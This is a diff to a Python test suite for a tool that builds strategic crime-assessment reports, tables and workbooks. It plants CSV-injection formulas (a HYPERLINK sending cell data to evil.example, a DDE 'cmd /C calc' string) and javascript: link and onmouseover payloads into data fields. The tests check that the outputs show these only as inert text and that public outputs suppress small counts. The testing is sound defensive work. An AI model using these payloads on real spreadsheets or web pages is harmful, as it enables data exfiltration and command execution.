@@ -47,6 +47,14 @@ PAYLOAD = f"{SCRIPT} {IMG} {MARKDOWN}"
 THEME = "Gangs and child sexual exploitation"
 PLANTED_THEME = f"Gangs {PAYLOAD}"
 THRESHOLD = 60
+#: Spreadsheet formulas (OWASP CSV injection) planted in text fields and a theme name.
+FORMULA_THEME = '=HYPERLINK("http://evil.example/?"&C2,"Organised crime groups")'
+FORMULA_PRIORITY = "-2+3+cmd|' /C calc'!A0"
+#: Planted in the parameters' title and area name: Markdown links to script, HTML, and
+#: matplotlib mathtext (which would fail a chart or draw maths).
+JS_LINK = "[click me](javascript:alert(1))"
+PLANTED_TITLE = f"Strategic Assessment {JS_LINK} <b onmouseover=alert(2)>x</b>"
+PLANTED_AREA = "Maidstone $\\frac{1}{2}$ [x](javascript:alert(3))"
 POLICE_MONTH = "2025-03-kent-street.csv.gz"
 
 
@@ -91,11 +99,15 @@ def _plant(root: Path) -> Path:
         row["rationale"] = PAYLOAD  # not shown by any chapter today; planted in case it is
         if row["theme"] == THEME:
             row["theme"] = PLANTED_THEME
+        if row["theme"] == "Organised crime groups":
+            row["theme"] = FORMULA_THEME
 
     def plan(row: dict) -> None:
         if row["indicator"] == "OCGs subject to partnership disruption":
             row["priority"] = f"OCG {PAYLOAD}"
             row["indicator"] = f"Disruptions {PAYLOAD}"
+        if row["indicator"] == "Section 136 detentions":
+            row["priority"] = FORMULA_PRIORITY
 
     def survey(row: dict) -> None:
         if row["response"] == "Very safe":
@@ -128,6 +140,13 @@ def _plant(root: Path) -> Path:
             pr[key][PLANTED_THEME] = pr[key].pop(THEME)
     raw["last_year_priorities"] = [PLANTED_THEME if t == THEME else t
                                    for t in raw["last_year_priorities"]]
+    for key in ("perception", "volume", "trend", "influence"):
+        if "Organised crime groups" in pr[key]:
+            pr[key][FORMULA_THEME] = pr[key].pop("Organised crime groups")
+    raw["last_year_priorities"] = [FORMULA_THEME if t == "Organised crime groups" else t
+                                   for t in raw["last_year_priorities"]]
+    raw["title"] = PLANTED_TITLE
+    raw["area"]["name"] = PLANTED_AREA
     path = root / "planted.yaml"
     path.write_text(yaml.safe_dump(raw, sort_keys=False, allow_unicode=True), encoding="utf-8")
     return path
@@ -439,3 +458,90 @@ def test_data_fields_the_report_does_not_show(planted: tuple[Path, Path]) -> Non
     with gzip.open(root / "police_uk" / POLICE_MONTH, "rt", encoding="utf-8", newline="") as fh:
         names = {r["LSOA name"] for r in csv.DictReader(fh)}
     assert any(n.startswith("Maidstone ") and n.endswith(PAYLOAD) for n in names)
+
+
+# --------------------------------------------------------------------------- formulas, links
+_PLAIN_NUMBER = re.compile(r"^[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?$")
+
+
+def _formula_like(cell: str) -> bool:
+    s = cell.lstrip(" ")
+    return s[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not _PLAIN_NUMBER.match(s.strip())
+
+
+def test_no_text_from_data_is_a_formula_in_a_table_or_workbook(
+        planted: tuple[Path, Path]) -> None:
+    from openpyxl import load_workbook
+
+    _, build = planted
+    seen_planted = 0
+    for audience in ("official", "public"):
+        for path in sorted((build / audience / "tables").glob("*.csv")):
+            with path.open(encoding="utf-8", newline="") as fh:
+                for r, row in enumerate(csv.reader(fh), start=1):
+                    for c, cell in enumerate(row, start=1):
+                        assert not _formula_like(cell), (path.name, r, c, cell)
+                        seen_planted += cell in (f"'{FORMULA_THEME}", f"'{FORMULA_PRIORITY}")
+        book = load_workbook(build / audience / "tables.xlsx")
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (audience, sheet.title, cell.coordinate)
+                    if isinstance(cell.value, str):
+                        assert not _formula_like(cell.value), (sheet.title, cell.coordinate)
+    assert seen_planted >= 6  # the planted text reached the tables, as text
+
+
+def test_title_and_area_name_reach_every_page_as_text(planted: tuple[Path, Path]) -> None:
+    _, build = planted
+    for page in _pages(build):
+        soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
+        where = page.relative_to(build)
+        links = [a.get("href", "") for a in soup.find_all("a")]
+        # In-page anchors ("#Strategic-Assessment-...") may spell the heading; no link may
+        # run script or leave the page for a planted address.
+        active = [h for h in links if not h.startswith("#")
+                  and (re.match(r"\s*(javascript|vbscript|data):", h, re.I) or "evil" in h)]
+        assert not active, where
+        assert not [(t.name, a) for t in soup.find_all(True) for a in t.attrs
+                    if a.lower().startswith("on")], where
+        assert not soup.find_all("b"), where
+    for audience in ("official", "public"):
+        text = re.sub(r"\s+", " ", _report_text(
+            (build / audience / "report.html").read_text(encoding="utf-8")))
+        assert PLANTED_TITLE in text and PLANTED_AREA in text, audience
+
+
+def test_public_charts_show_no_count_below_the_threshold(planted: tuple[Path, Path]) -> None:
+    """A chart whose points, bars or alt text would show a small count is withheld in public."""
+    _, build = planted
+    public, official = build / "public", build / "official"
+    withheld = {p.name for p in (official / "charts").glob("*.png")} - \
+        {p.name for p in (public / "charts").glob("*.png")}
+    assert withheld, "the planted threshold (60) should withhold some charts"
+    page = (public / "report.html").read_text(encoding="utf-8")
+    assert page.count("Chart withheld") >= len(withheld)
+    soup = BeautifulSoup(page, "html.parser")
+    for img in soup.find_all("img"):
+        alt = img.get("alt", "")
+        for value in re.findall(r"latest value, ([\d,.]+) in", alt):
+            v = float(value.replace(",", ""))
+            assert v == 0 or v >= THRESHOLD, alt
+        if alt.startswith("Bar chart of"):
+            for value in re.findall(r": ([\d,.]+)(?:[;.]|$)", alt):
+                v = float(value.replace(",", "").rstrip("."))
+                assert v == 0 or v >= THRESHOLD, alt
+
+
+def test_public_volume_basis_quotes_no_small_count(planted: tuple[Path, Path]) -> None:
+    _, build = planted
+    table = pd.read_csv(build / "public" / "tables" / "priority_matrix.csv", dtype=str)
+    for basis in table["volume basis"]:
+        m = re.match(r"([\d,]+) in ", basis)
+        if m:
+            v = int(m.group(1).replace(",", ""))
+            assert v == 0 or v >= THRESHOLD, basis
+    official = pd.read_csv(build / "official" / "tables" / "priority_matrix.csv", dtype=str)
+    small = [b for b in official["volume basis"] if re.match(r"([1-5]?\d) in ", b)]
+    assert small, "the planted threshold should make some volume bases small"
+    assert any(b.startswith(f"fewer than {THRESHOLD} in ") for b in table["volume basis"])
